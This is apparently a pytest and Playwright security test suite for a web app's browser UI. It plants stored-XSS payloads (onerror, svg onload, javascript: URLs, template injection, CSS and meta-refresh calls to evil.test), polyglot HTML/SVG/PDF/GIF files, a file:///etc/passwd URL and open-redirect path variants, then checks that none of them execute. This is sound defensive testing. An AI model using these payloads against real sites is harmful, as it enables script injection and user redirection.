"""Text and files of an attacker, opened in a browser by others: nothing of them runs, becomes
markup or calls another server, and the Content-Security-Policy has nothing to stop."""

from __future__ import annotations

import base64
import contextlib
import http.client
import io
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import quote, urlsplit
from uuid import uuid4

import httpx
import pytest
from PIL import Image, PngImagePlugin
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Route
from playwright.sync_api import Error as BrowserError

from serve_app.domain.media.file_metadata import FileMetadata
from tests.attacks.attempts import Attempts
from tests.attacks.scene import ALLOWED, ATTACKER, Scene
from tests.cluster.darkroom import eventually
from tests.page.chromium import chromium
from tests.page.test_origin import GIVE

pytestmark = [pytest.mark.cluster, pytest.mark.long]

MARK = "fell()"
"""In each payload: what the browser must show as text."""
EVIL = "http://evil.test"

PAYLOADS = (
    '"><img data-fell src=x onerror=fell()>',
    "'><svg data-fell onload=fell()></svg>",
    "</script></title></textarea><script data-fell>fell()</script>",
    '<iframe data-fell srcdoc="<script>parent.fell()</script>"></iframe>',
    "[look](javascript:fell()) ![look](javascript:fell()) <javascript:fell()>",
    "<a data-fell href=javascript:fell()>look</a>",
    "${fell()}{{constructor.constructor('fell()')()}}<%=fell()%>",
    "<style data-fell>@import '//evil.test/fell()'</style>",
    "<meta data-fell http-equiv=refresh content='0;//evil.test/fell()'>",
    "<form data-fell action=//evil.test><button formaction=javascript:fell()>go</button></form>",
    "<math><mi data-fell xlink:href=javascript:fell()>x</mi></math>",
    "javascript:fell()",
    "\u202egnp.\u2066<b data-fell onclick=fell()>\u202d",
)
ALL = " ".join(PAYLOADS)

WATCH = """
window.fell = () => console.warn("FELL a script ran");
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
    console.warn(`FELL the policy stopped ${effectiveDirective} ${blockedURI} ${sample}`));
"""
MARKUP = """() => [...document.querySelectorAll("*")].flatMap((each) => {
    const bad = ["href", "src", "action", "formaction", "poster", "data", "srcdoc", "xlink:href"]
        .map((name) => each.getAttribute(name))
        .filter((url) => url !== null && /^\\s*(javascript|vbscript|data:text)/i.test(url));
    const listens = each.getAttributeNames().filter((name) => name.startsWith("on"));
    const opens = each.target === "_blank" && !/noopener/.test(each.rel);
    return bad.length || listens.length || opens || "fell" in each.dataset
        ? [each.outerHTML.slice(0, 200)] : [];
})"""

CAUGHT = """() => {
    const made = document.createElement("b");
    made.setAttribute("data-fell", "");
    made.setAttribute("style", "color: red");
    document.body.append(made);
}"""
"""What has to be seen, if an attacker does it."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


class Watched:
    """A page that says what ran, what became markup, and what it called."""

    def __init__(self, context: BrowserContext, own: str) -> None:
        self.fell: list[str] = []
        self._own = urlsplit(own).netloc
        context.add_init_script(WATCH)
        self.page = context.new_page()
        self.page.on("console", self._said)
        self.page.on("pageerror", lambda error: self.fell.append(f"the page broke: {error}"))
        self.page.on("dialog", lambda dialog: (self.fell.append("a dialog"), dialog.dismiss()))
        self.page.on("request", lambda request: self._called(request.url))

    def _said(self, message: ConsoleMessage) -> None:
        if "FELL" in message.text or "Content Security Policy" in message.text:
            self.fell.append(message.text)

    def _called(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme.startswith("http") and parts.netloc != self._own:
            self.fell.append(f"it called {url}")

    def verdict(self) -> list[str]:
        """What fell since the last call."""
        fell = [*self.fell, *self.page.evaluate(MARKUP)]
        self.fell.clear()
        return fell

    def shows(self, mark: str = MARK) -> bool:
        """Whether a text of the attacker comes to be seen."""
        try:
            self.page.wait_for_function(
                """mark => document.body.innerText.includes(mark) || [...document.querySelectorAll(
                    "input, textarea, option")].some(({ value }) => value?.includes(mark))""",
                arg=mark,
                timeout=10_000,
            )
        except BrowserError:
            return False
        return True


class Planted:
    """What the attacker has said in every place that takes text."""

    def __init__(self, scene: Scene) -> None:
        operator = scene.darkroom.http
        answer = operator.post("/v1/keys", json={"tenant": ATTACKER, "scopes": ["api", "admin"]})
        self.key = str(answer.json()["key"])
        with scene.client(self.key) as http:
            self.file = upload(http, "image/png", png(ALL), f"{ALL[:80]}.png")
            self.requests = [self._request(http, inputs) for inputs in self._inputs()]
            ended = [self._ended(http, request_id) for request_id in self.requests]
            assert ended.count("failed") == 2, ended
            for payload in PAYLOADS:
                ok(http.post("/v1/keys", json={"alias": payload, "scopes": ["read"]}))
            ok(http.post("/v1/workflows", json=workflow()))
            ok(http.post("/v1/weights", json=weights()))
            share = http.post(f"/v1/requests/{self.requests[0]}/share", json={"expires_in_s": 600})
            self.share = str(ok(share).json()["url"])
            http.post("/openai/v1/files", files={"file": (ALL, b"{}")}, data={"purpose": "batch"})
        for payload in PAYLOADS:
            ok(operator.post("/v1/tenants", json={"tenant": uuid4().hex, "name": payload}))
        ok(operator.put("/v1/models/entries/evil/model", json=entry(operator)))

    @staticmethod
    def _inputs() -> Iterator[tuple[str, dict[str, Any]]]:
        yield ALLOWED, {"prompt": ALL, "num_inference_steps": 1}
        for echo in (ALL, {ALL: ALL}, *({"images": [{"url": url}]} for url in URLS)):
            yield "test/probe", {"prompt": ALL, ALL: ALL, "echo": echo, "artifacts": 1}
        yield "test/probe", {"prompt": ALL, "message": ALL}
        yield "test/probe", {"prompt": ALL, "fail": ALL}

    @staticmethod
    def _request(http: httpx.Client, call: tuple[str, dict[str, Any]]) -> str:
        endpoint, body = call
        headers = {"X-Fal-Queue-Priority": "low", "User-Agent": quote(ALL)}
        hook = {"fal_webhook": f"https://example.com/{ALL}"}
        return str(
            ok(http.post(f"/queue/{endpoint}", json=body, headers=headers, params=hook)).json()[
                "request_id"
            ]
        )

    @staticmethod
    def _ended(http: httpx.Client, request: str) -> str:
        def look() -> str | None:
            state = http.get(f"/v1/requests/{request}", params={"wait": 10}).json()["state"]
            return state if state in ("succeeded", "failed") else None

        return str(eventually(look, f"{request} ends"))


URLS = (
    *("javascript:fell()", "JaVaScRiPt:fell()", "\tjava\nscript:fell()", "//evil.test/fell()"),
    *("data:text/html,<script>fell()</script>", "data:image/svg+xml,<svg onload=fell()>"),
    *("blob:null/fell()", "file:///etc/passwd#fell()", "vbscript:fell()"),
)


def ok(answer: httpx.Response) -> httpx.Response:
    assert answer.is_success, answer.text
    return answer


def upload(http: httpx.Client, media_type: str, content: bytes, name: str = "x.png") -> str:
    body = {"file_name": name, "content_type": media_type}
    place = ok(http.post("/rest/storage/upload/initiate", json=body)).json()
    path = urlsplit(place["upload_url"])._replace(scheme="", netloc="").geturl()
    ok(http.put(path, content=content, headers={"content-type": media_type}))
    return str(place["file_url"])


def png(words: str) -> bytes:
    """Image that says that the words made it."""
    buffer, info = io.BytesIO(), PngImagePlugin.PngInfo()
    about = FileMetadata(
        endpoint=words, model=words, seed=1, prompt=words, settings={words: words, "prompt": words}
    )
    info.add_text("Comment", about.text())
    Image.new("RGB", (64, 32), "teal").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def workflow() -> dict[str, Any]:
    fields = {"prompt": {"type": "string", "title": ALL, "description": ALL, "default": ALL}}
    steps = {"a": {"app": "test/probe", "input": {"echo": "$input.prompt"}}}
    output = {"x": "$a.echo"}
    return {
        "name": "wf",
        "title": ALL[:100],
        "description": ALL[:500],
        "input": fields,
        "steps": steps,
        "output": output,
    }


def weights() -> dict[str, Any]:
    return {
        "name": "w",
        "base": ALLOWED,
        "source": f"https://example.com/{quote(PAYLOADS[0])}/{MARK}.safetensors",
    }


def entry(operator: httpx.Client) -> dict[str, Any]:
    """A model whose card somebody else wrote."""
    fields = dict(operator.get("/v1/models/entries/test/probe").json()["entry"])
    card = {"display_name": ALL[:100], "description": ALL, "licence": ALL[:60]}
    examples = [{"input": {"prompt": ALL}, "output": {"images": [{"url": url}]}} for url in URLS]
    return {**fields, **card, "examples": examples[:4]}


@pytest.fixture(scope="module")
def payloads(scene: Scene) -> Planted:
    return Planted(scene)


def open_page(browser: Browser, scene: Scene, key: str) -> Watched:
    """Somebody who has opened the page with a key."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(f"localStorage.setItem('darkroom.key', '{key}')")
    watched = Watched(context, scene.darkroom.url)
    watched.page.goto(scene.darkroom.url)
    watched.page.wait_for_selector("#model-about:not(:empty)")
    return watched


PLACES = (
    *("view=gallery", "view=models&id=evil/model", "model=evil/model", f"model={ATTACKER}/wf"),
    *("view=account&part=keys", "view=account&part=weights"),
    *(
        f"view=operator&part={section}"
        for section in ("models", "keys", "resources", "webhooks", "audit")
    ),
)
"""Views that show some of it."""
SILENT_PLACES = (
    *("view=models", "view=account&part=usage", "view=account&part=resources"),
    *(
        f"view=operator&part={part}"
        for part in ("pools", "queue", "weights", "usage", "shadows", "storage", "health")
    ),
)
"""They show none of the texts, or not at first."""


def test_texts_of_an_attacker_are_text_in_every_view(
    browser: Browser, scene: Scene, payloads: Planted, attempts: Attempts
) -> None:
    watched = open_page(browser, scene, payloads.key)
    page, first = watched.page, payloads.requests[0]
    page.evaluate(CAUGHT)
    assert len(watched.verdict()) >= 2, "markup, and what the policy stops, is not seen"
    page.reload()

    def look(place: str, *, speaks: bool = True) -> None:
        shown = not speaks or watched.shows()
        if not speaks:
            page.wait_for_timeout(300)
        fell = watched.verdict()
        silent = "" if shown else "shows nothing of it"
        attempts.note(f"{place} {silent} {fell}", held=shown and not fell)

    for place in (
        *PLACES,
        *(f"request={request_id}" for request_id in payloads.requests),
        *SILENT_PLACES,
    ):
        page.evaluate("place => { location.hash = place }", place)
        look(place, speaks=place not in SILENT_PLACES)
    page.goto(payloads.share)
    look("share link")
    page.goto(f"{scene.darkroom.url}/#view=gallery&item={first}.0")
    page.wait_for_selector("dialog[open]")
    look("large view")
    page.goto(f"{scene.darkroom.url}/#model=evil/model")
    page.reload()
    page.locator("#code-button").click()
    look("code")
    page.keyboard.press("Escape")
    content = base64.b64encode(png(ALL)).decode()
    page.evaluate(GIVE, ["body", "drop", content, ALL, "image/png"])
    page.get_by_role("dialog", name="What made this file").wait_for()
    look("dropped file")
    page.context.close()


def documents() -> Iterator[tuple[str, bytes]]:
    """Files that a browser could take for a page or a script."""
    html = b"<!doctype html><script>fell()</script><img src=x onerror=fell()>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fell()"><script>fell()</script></svg>'
    pdf = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + html
    script = b"GIF89a=fell();/*" + png("") + b"*/"
    for media_type in (
        "text/html",
        "application/xhtml+xml",
        "text/xml",
        "application/xml",
        "image/png",
    ):
        yield media_type, html
    for media_type in (
        "text/plain",
        "application/json",
        "application/octet-stream",
        "x/y",
        "text/csv",
    ):
        yield media_type, html
    for media_type in ("image/svg+xml", "image/png", "image/svg+xml;charset=utf-7", "text/html;x"):
        yield media_type, svg
    for media_type in (
        "text/javascript",
        "image/gif",
        "text/plain",
        "application/json",
        "audio/wav",
    ):
        yield media_type, script
    yield from (("application/pdf", pdf), ("message/rfc822", b"Content-Type: text/html\n\n" + html))


def test_files_of_an_attacker_run_nothing_at_their_address(
    browser: Browser, scene: Scene, payloads: Planted, attempts: Attempts
) -> None:
    """Neither opened, nor as the script, the style, the worker or the frame of a page."""
    watched = open_page(browser, scene, payloads.key)
    with scene.client(payloads.key) as http:
        files = [(title, upload(http, title, content)) for title, content in documents()]
    for media_type, url in files:
        with contextlib.suppress(BrowserError):  # a download is not shown
            watched.page.goto(url)
        told = watched.page.evaluate("() => document.contentType")
        opened = watched.page.url == url
        fell = watched.verdict() if opened else watched.fell
        attempts.note(f"{media_type} opened as {told}: {fell}", held=not fell)
    watched.fell.clear()
    guest = browser.new_context()
    guest.add_init_script("window.fell = () => { window.fallen = true }")
    guest.route(f"{EVIL}/**", lambda route: serve(route, [url for _, url in files]))
    page = guest.new_page()
    page.goto(f"{EVIL}/")
    page.wait_for_timeout(1000)
    attempts.note("files as scripts", held=not page.evaluate("() => window.fallen === true"))
    inside = [frame.url for frame in page.frames[1:] if frame.evaluate("() => !!window.fallen")]
    attempts.note(f"files in frames: {inside}", held=not inside)
    guest.close()
    watched.page.context.close()


def serve(route: Route, urls: Sequence[str]) -> None:
    """A page of the attacker's with these URLs in every place that could run them."""
    scripts = "".join(f"<script src='{url}'></script>" for url in urls)
    frames = "".join(f"<iframe src='{url}'></iframe><embed src='{url}'>" for url in urls)
    route.fulfill(content_type="text/html", body=f"<!doctype html>{scripts}{frames}")


def test_a_page_of_an_attacker_neither_frames_nor_holds_nor_reads_the_page(
    browser: Browser, scene: Scene, payloads: Planted, attempts: Attempts
) -> None:
    own = scene.darkroom.url
    watched = open_page(browser, scene, payloads.key)
    context = watched.page.context
    context.route(
        f"{EVIL}/**", lambda route: serve(route, [own, f"{own}/#view=account", payloads.share])
    )
    page = context.new_page()
    page.goto(f"{EVIL}/")
    page.wait_for_timeout(500)
    framed = [frame.url for frame in page.frames[1:] if frame.url.startswith(own)]
    attempts.note(f"framed: {framed}", held=not framed)
    with context.expect_page() as opening:
        page.evaluate("url => { window.held = window.open(url) }", own)
    opening.value.wait_for_load_state()
    attempts.note("holds the window", held=page.evaluate("() => window.held.closed"))
    attempts.note("opener", held=opening.value.evaluate("() => window.opener === null"))
    read = """async url => { try {
        const answer = await fetch(url, { credentials: "include" });
        return `${answer.status} ${await answer.text()}`;
    } catch { return "refused"; } }"""
    for path in ("/v1/keys", "/v1/keys/self", "/v1/requests", "/v1/audit"):
        told = page.evaluate(read, own + path)
        attempts.note(f"reads {path}: {told}", held=not told.startswith("200"))
    for key in (scene.attacker["read"], f"{scene.attacker['read']}&view=gallery"):
        victim = opening.value
        victim.goto("about:blank")
        victim.goto(f"{own}/#key={key}")
        victim.wait_for_timeout(500)
        kept = victim.evaluate("() => localStorage.getItem('darkroom.key')")
        attempts.note("a link gives the page another's key", held=kept == payloads.key)
    context.close()


def test_no_address_redirects_to_another_server(scene: Scene, attempts: Attempts) -> None:
    address = urlsplit(scene.darkroom.url)
    paths = [
        f"{before}{slashes}evil.test{after}"
        for before in (
            "",
            "/",
            "/page",
            "/comfyui",
            "/files",
            "/v1",
            "/v1/shared",
            "/openai/v1",
            "/mcp",
        )
        for slashes in ("//", "/\\", "/%2f", "/%5c", "/..//", "/.//", "/%09/", "/http://")
        for after in ("", "/", "/..", "/%2e%2e")
    ]
    queries = ("next", "url", "return", "redirect", "redirect_uri", "target", "state", "code")
    paths += [
        f"{at}?{name}=//evil.test" for at in ("/", "/v1/sign-in", "/comfyui") for name in queries
    ]
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=30)
    for path in paths:
        connection.request("GET", path if path.startswith("/") else f"/{path}")
        answer = connection.getresponse()
        answer.read()
        to = answer.headers.get("location", "")
        away = "evil.test" in urlsplit(to.replace("\\", "/")).netloc
        attempts.note(f"{path}: {answer.status} {to}", held=not away and answer.status < 500)
    connection.close()
